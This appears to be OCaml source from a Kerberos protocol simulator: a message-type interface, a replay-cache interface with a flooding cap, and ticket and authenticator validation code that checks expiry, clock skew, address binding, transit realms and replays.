  a_subkey_part : bytes option;  (** client half of session-key negotiation *)
}

type kdc_options = { enc_tkt_in_skey : bool; reuse_skey : bool; forward : bool }

val no_options : kdc_options

type padata =
  | Pa_preauth of bytes  (** sealed under Kc: (nonce, client time) *)
  | Pa_dh of bytes  (** client's public exponential, big-endian *)
  | Pa_handheld  (** request the [{R}Kc] reply encryption *)

type as_req = {
  q_client : Principal.t;
  q_server : Principal.t;
  q_nonce : int64;
  q_addr : Sim.Addr.t;
  q_padata : padata list;
      (** Draft 3's "optional padata field", generalized to several entries
          so preauthentication and an exponential can ride together *)
}

type as_rep = {
  p_challenge : bytes option;  (** the cleartext [R] of the handheld scheme *)
  p_dh_public : bytes option;  (** KDC's exponential when DH-protected *)
  p_ticket : bytes option;
      (** the ticket, riding in the clear outside any integrity protection
          (V4/draft behaviour) — [None] when the profile carries it inside
          the sealed body instead *)
  p_sealed : bytes;  (** {!rep_body}, sealed under the login key *)
}

type rep_body = {
  b_session_key : bytes;
  b_nonce : int64;
  b_server : Principal.t;
  b_issued_at : float;
  b_lifetime : float;
  b_ticket : bytes;
      (** the sealed ticket when [ticket_inside_sealed_rep]; empty when the
          ticket travels in the clear ({!as_rep.p_ticket}) *)
}

type tgs_req = {
  t_ap : ap_req;  (** ticket-granting ticket + authenticator *)
  t_server : Principal.t;
  t_nonce : int64;
  t_options : kdc_options;
  t_additional_ticket : bytes option;  (** cleartext in Draft 3 *)
  t_authz_data : bytes;  (** cleartext in Draft 3, covered only by a_req_cksum *)
}

and ap_req = { r_ticket : bytes; r_authenticator : bytes; r_mutual : bool }

type ap_rep_body = {
  ar_timestamp : float;  (** the authenticator's timestamp + 1 *)
  ar_subkey_part : bytes option;
  ar_seq_init : int option;
}

type challenge = { c_nonce : int64; c_server_part : bytes option; c_seq_init : int option }

type challenge_resp = {
  cr_nonce_f : int64;  (** f(nonce) = nonce + 1 *)
  cr_client_part : bytes option;
  cr_seq_init : int option;
}

type safe_msg = { s_data : bytes; s_stamp : stamp; s_cksum : bytes }
and stamp = At of float | Seq of int

type krb_err = { e_code : int; e_text : string }

(** Error codes *)

val err_principal_unknown : int
val err_preauth_required : int
val err_preauth_failed : int
val err_ticket_expired : int
val err_skew : int
val err_replay : int
val err_badaddr : int
val err_bad_integrity : int
val err_option_forbidden : int
val err_policy : int
val err_transit : int
val err_generic : int

val err_response_too_big : int
(** The encoded response exceeds the path MTU back to the client — retry
    the exchange over the stream transport (the v5 KRB_ERR_RESPONSE_TOO_BIG). *)

val err_busy : int
(** The KDC's admission queue refused the request (KRB_ERR_BUSY): the
    server is overloaded and shed the exchange rather than queueing it
    past usefulness. The error text carries a retry-after hint — see
    {!busy_text} / {!retry_after_of_text}. *)

val busy_text : retry_after:float -> string
(** The canonical [err_busy] error text: ["server busy; retry-after=T"]
    with [T] printed to millisecond precision. *)

val retry_after_of_text : string -> float option
(** Parse the retry-after hint back out of an error text; [None] when the
    text carries no (or a malformed) hint. *)

(** Serialization. [of_value] functions raise {!Wire.Codec.Decode_error}. *)

val ticket_to_value : ticket -> Wire.Encoding.value
val ticket_of_value : Wire.Encoding.value -> ticket
val authenticator_to_value : authenticator -> Wire.Encoding.value
val authenticator_of_value : Wire.Encoding.value -> authenticator
val as_req_to_value : as_req -> Wire.Encoding.value
val as_req_of_value : Wire.Encoding.value -> as_req
val as_rep_to_value : as_rep -> Wire.Encoding.value
val as_rep_of_value : Wire.Encoding.value -> as_rep
val rep_body_to_value : tag:int -> rep_body -> Wire.Encoding.value
val rep_body_of_value : tag:int -> Wire.Encoding.kind -> Wire.Encoding.value -> rep_body
val tgs_req_to_value : tgs_req -> Wire.Encoding.value
val tgs_req_of_value : Wire.Encoding.value -> tgs_req
val ap_req_to_value : ap_req -> Wire.Encoding.value
val ap_req_of_value : Wire.Encoding.value -> ap_req
val ap_rep_body_to_value : ap_rep_body -> Wire.Encoding.value
val ap_rep_body_of_value : Wire.Encoding.value -> ap_rep_body
val challenge_to_value : challenge -> Wire.Encoding.value
val challenge_of_value : Wire.Encoding.value -> challenge
val challenge_resp_to_value : challenge_resp -> Wire.Encoding.value
val challenge_resp_of_value : Wire.Encoding.value -> challenge_resp
val err_to_value : krb_err -> Wire.Encoding.value
val err_of_value : Wire.Encoding.value -> krb_err

val with_deadline : deadline:float -> Wire.Encoding.value -> Wire.Encoding.value
(** Wrap a request in the deadline envelope: the server should not bother
    replying after [deadline] (absolute time on the shared clock) — shed
    it at the queue head instead. *)

val split_deadline : Wire.Encoding.value -> float option * Wire.Encoding.value
(** Peel a deadline envelope off a decoded request; requests without one
    come back unchanged with [None]. Raises {!Wire.Codec.Decode_error} on
    a malformed envelope. *)

val tgs_req_cleartext_fields : tgs_req -> bytes
(** The Draft 3 cleartext portion a TGS request's [a_req_cksum] covers:
    target server, nonce, options, additional ticket, authorization data —
    in that order, authorization data last (which is what makes the CRC
    forgery's 4-byte filler placement work). *)

(** Profile-aware envelope helpers. *)

val encode_msg : Profile.t -> tag:int -> Wire.Encoding.value -> bytes
val decode_msg : Profile.t -> tag:int -> bytes -> Wire.Encoding.value
(** @raise Wire.Codec.Decode_error (including tag mismatch under Der) *)

val seal_msg : Profile.t -> Util.Rng.t -> key:bytes -> tag:int -> Wire.Encoding.value -> bytes
val open_msg : Profile.t -> key:bytes -> tag:int -> bytes -> (Wire.Encoding.value, string) result

(** Time encoding shared by modules. *)

val float_to_int64 : float -> int64
val int64_to_float : int64 -> float
