(** A cache of recently seen authenticators.

    The original Kerberos design "required such caching, though this was
    never implemented"; the paper discusses why multi-process UNIX servers
    found it awkward. Here the cache is a module servers may or may not be
    configured with (the V4 profile runs without one, faithfully). Entries
    expire after the clock-skew horizon — outside it, the timestamp check
    itself rejects the authenticator.

    Expiry is tracked by a min-heap drained incrementally, so sustained
    insert load costs O(log n) amortized per operation rather than a full
    table sweep per insert.

    The paper names cache flooding as a denial-of-service vector: an
    attacker stuffing distinct authenticators grows the cache without
    bound. [cap] closes it — at capacity the live entry closest to expiry
    is evicted deterministically (the smallest re-opened replay window)
    and counted in {!evicted}. *)

type t

val create : ?cap:int -> ?on_evict:(unit -> unit) -> horizon:float -> unit -> t
(** [cap] bounds live entries (default: unbounded); [on_evict] fires once
    per cap eviction, e.g. to bump a server's [replay_cache.evicted]
    telemetry counter. @raise Invalid_argument when [cap <= 0]. *)

type verdict = Fresh | Replayed

val check_and_insert : t -> now:float -> bytes -> verdict
(** Keyed by the raw authenticator ciphertext (not a digest, so two
    distinct authenticators can never be conflated). [Fresh] inserts. *)

val size : t -> int
(** Live entries (after purging), the server-state cost measured in E14. *)

val hits : t -> int
(** Authenticators refused as replays over the cache's lifetime — the
    signal the telemetry layer surfaces to the operator. *)

val inserts : t -> int
(** Fresh authenticators admitted over the cache's lifetime. *)

val evicted : t -> int
(** Live entries pushed out by the cap over the cache's lifetime (0 when
    uncapped). Evicted entries can be replayed once more until their
    original expiry — the memory bound trades exactly that window. *)

val purge : t -> now:float -> unit

val to_bytes : t -> bytes
(** Deterministic snapshot (entries sorted by key) of the horizon, the
    cap and the live entries — what a server that keeps its cache on disk
    writes at shutdown. Lifetime counters ({!hits}/{!inserts}/{!evicted})
    are process state and are not included. *)

val of_bytes : ?now:float -> ?on_evict:(unit -> unit) -> bytes -> t
(** Rebuild a cache from {!to_bytes} output; counters start at zero and
    the cap is restored from the snapshot. With [~now], entries already
    expired at load time are pruned rather than admitted — a restart
    after a long crash window must not resurrect stale entries or rebuild
    a heap of dead weight. [on_evict] re-attaches the eviction hook
    (callbacks cannot be serialized).
    @raise Wire.Codec.Decode_error on malformed input. *)
