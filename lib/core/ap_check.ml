type reject = { code : int; reason : string }

let fail code reason = Error { code; reason }

let contains_substring hay needle =
  let nh = String.length hay and nn = String.length needle in
  let rec go i = i + nn <= nh && (String.sub hay i nn = needle || go (i + 1)) in
  nn = 0 || go 0

(* Map a protocol error to the telemetry outcome vocabulary shared by the
   KDC and AP-server spans. *)
let outcome_of_code ~code ~text =
  if code = Messages.err_replay then "replay-detected"
  else if code = Messages.err_skew then "skew"
  else if code = Messages.err_ticket_expired then "ticket-expired"
  else if code = Messages.err_badaddr then "bad-address"
  else if code = Messages.err_policy then
    if contains_substring text "rate limit" then "rate-limited" else "policy"
  else if code = Messages.err_option_forbidden then "option-forbidden"
  else if code = Messages.err_transit then "transit"
  else if code = Messages.err_principal_unknown then "unknown-principal"
  else if code = Messages.err_preauth_required then "preauth-reject"
  else if code = Messages.err_preauth_failed then "preauth-failed"
  else if code = Messages.err_bad_integrity then
    if contains_substring text "checksum" then "bad-checksum" else "bad-integrity"
  else "error"

let outcome_of_reject r = outcome_of_code ~code:r.code ~text:r.reason

let validate_ticket ~profile ~service_key ~principal ~now ~src_addr
    ~accept_forwarded ~trusted_transit ~refuse_dup_skey blob =
  match Messages.open_msg profile ~key:service_key ~tag:Messages.tag_ticket blob with
  | Error e -> fail Messages.err_bad_integrity ("ticket: " ^ e)
  | Ok v -> (
      match Messages.ticket_of_value v with
      | exception Wire.Codec.Decode_error e -> fail Messages.err_bad_integrity e
      | ticket ->
          if not (Principal.equal ticket.server principal) then
            fail Messages.err_bad_integrity "ticket for a different service"
          else if ticket.issued_at +. ticket.lifetime < now then
            fail Messages.err_ticket_expired "ticket expired"
          else if ticket.issued_at > now +. Krb_priv.skew then
            fail Messages.err_skew "ticket from the future"
          else if
            (match ticket.addr with
            | Some a -> not (Sim.Addr.equal a src_addr)
            | None -> false)
          then fail Messages.err_badaddr "ticket bound to another address"
          else if ticket.forwarded && not accept_forwarded then
            fail Messages.err_policy "forwarded tickets not accepted here"
          else if ticket.dup_skey && refuse_dup_skey then
            (* Draft 3: "explicitly warns against using tickets with
               DUPLICATE-SKEY set for authentication. Servers that obey this
               restriction are not vulnerable." *)
            fail Messages.err_policy "DUPLICATE-SKEY tickets refused for authentication"
          else if
            ticket.transited <> []
            && List.exists (fun r -> not (List.mem r trusted_transit)) ticket.transited
          then fail Messages.err_transit "untrusted transit realm"
          else Ok ticket)

let validate_authenticator ~profile ~(ticket : Messages.ticket) ~ticket_blob
    ~principal ~now ~skew ~cache blob =
  match
    Messages.open_msg profile ~key:ticket.Messages.session_key
      ~tag:Messages.tag_authenticator blob
  with
  | Error e -> fail Messages.err_bad_integrity ("authenticator: " ^ e)
  | Ok v -> (
      match Messages.authenticator_of_value v with
      | exception Wire.Codec.Decode_error e -> fail Messages.err_bad_integrity e
      | auth ->
          if not (Principal.equal auth.a_client ticket.client) then
            fail Messages.err_bad_integrity "authenticator names a different client"
          else if Float.abs (auth.a_timestamp -. now) > skew then
            fail Messages.err_skew
              (Printf.sprintf "authenticator %.0fs outside the window"
                 (Float.abs (auth.a_timestamp -. now)))
          else if
            (match cache with
            | Some c -> Replay_cache.check_and_insert c ~now blob = Replay_cache.Replayed
            | None -> false)
          then fail Messages.err_replay "authenticator replayed"
          else if profile.Profile.ticket_checksum_in_authenticator then begin
            (* Hardened: the authenticator must name this service and carry
               a collision-proof checksum of the ticket it accompanies. *)
            match (auth.a_service, auth.a_ticket_cksum) with
            | Some svc, Some cksum
              when Principal.equal svc principal
                   && Crypto.Checksum.verify Crypto.Checksum.Md4
                        ~key:ticket.session_key ticket_blob ~expect:cksum ->
                Ok auth
            | Some svc, Some _ when not (Principal.equal svc principal) ->
                fail Messages.err_policy "authenticator names a different service"
            | _ -> fail Messages.err_bad_integrity "ticket/authenticator link missing or wrong"
          end
          else Ok auth)
